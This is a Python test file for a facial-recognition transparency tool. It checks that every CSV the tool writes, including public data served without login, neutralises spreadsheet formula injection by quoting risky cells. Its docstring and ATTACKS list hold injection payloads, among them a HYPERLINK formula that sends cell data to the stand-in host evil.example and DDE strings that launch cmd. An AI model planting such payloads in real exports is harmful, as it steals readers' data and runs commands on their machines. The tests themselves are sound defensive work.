"""Every CSV FRT writes reaches a spreadsheet as text, never as a formula (hardening item 8).

The attack: the public transparency CSV (no login) carried a locality typed by an applicant as
`=HYPERLINK("https://evil.example/?"&A1,"Click")` straight into a reader's spreadsheet, which ran
it. FRT writes one CSV today — the public data (`transparency.public_csv`), served on the public
page and printed by `frt governance public --format csv` — and any new writer goes through
`frt.core.text.csv_rows`; the last test here fails if a module writes CSV another way.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from frt.core.text import FORMULA_PREFIXES, csv_cell, csv_rows
from frt.governance import transparency
from frt.governance.transparency import PublicDeployment

pytestmark = pytest.mark.req("GOV-14", "DATA-05")

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def row(location: str, style: str = "marked vans") -> PublicDeployment:
    return PublicDeployment(
        reference="LFR-2026-001/1",
        location=location,
        date="2026-12-01",
        duration_hours=8.0,
        assets=2,
        style=style,
        watchlist_subjects=12,
        minimum_threshold=0.64,
        threshold_used=0.72,
        threshold_note="",
        alerts=3,
        alerts_without_outcome=0,
        true_alerts_confirmed=1,
        true_alerts_unconfirmed=0,
        false_alerts_confirmed=1,
        false_alerts_unconfirmed=1,
        false_alert_rate=0.0002,
        policing_outcomes=1,
        faces_scanned=10_000,
    )


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_starting_like_a_formula_is_written_as_text(attack):
    assert csv_cell(attack) == "'" + attack
    assert csv_cell("High Street") == "High Street"
    assert csv_cell(-3) == -3 and csv_cell(0.5) == 0.5  # numbers stay numbers


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_public_csv_neutralises_formulas_in_every_text_cell(monkeypatch, attack):
    monkeypatch.setattr(
        transparency,
        "public_deployments",
        lambda session: [row(attack, style=attack), row("High Street")],
    )
    out = cells(transparency.public_csv(None))
    assert out[0]["location"] == "'" + attack and out[0]["style"] == "'" + attack
    assert out[1]["location"] == "High Street"
    assert out[1]["false_alert_rate"] == "0.000200" and out[1]["faces_scanned"] == "10000"
    for record in out:
        assert not any(str(v).startswith(FORMULA_PREFIXES) for v in record.values())


def test_the_public_page_csv_needs_no_login_and_serves_text_not_formulas(client, monkeypatch):
    monkeypatch.setattr(transparency, "public_deployments", lambda session: [row(ATTACKS[0])])
    response = client.get("/public/", params={"format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert cells(response.text)[0]["location"] == "'" + ATTACKS[0]


def test_the_cli_prints_the_same_neutralised_csv(monkeypatch, settings, store):
    from typer.testing import CliRunner

    from frt.cli import app as cli

    monkeypatch.setenv("FRT_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("FRT_DATABASE_URL", settings.database_url)
    monkeypatch.setattr(transparency, "public_deployments", lambda session: [row(ATTACKS[0])])
    result = CliRunner().invoke(cli, ["governance", "public", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert cells(result.output)[0]["location"] == "'" + ATTACKS[0]


def test_csv_rows_neutralises_the_header_too():
    out = csv_rows(["=evil", "ok"], [{"=evil": "=1+1", "ok": "fine"}])
    assert out.splitlines() == ["'=evil,ok", "'=1+1,fine"]


def test_no_module_writes_csv_except_through_csv_rows():
    """A new CSV writer must use `csv_rows` (and so `csv_cell`): a csv.writer elsewhere fails."""
    src = Path(__file__).resolve().parents[2] / "src" / "frt"
    writers = [
        p.relative_to(src).as_posix()
        for p in src.rglob("*.py")
        if re.search(r"csv\.(DictWriter|writer)\(", p.read_text(encoding="utf-8"))
    ]
    assert writers == ["core/text.py"]
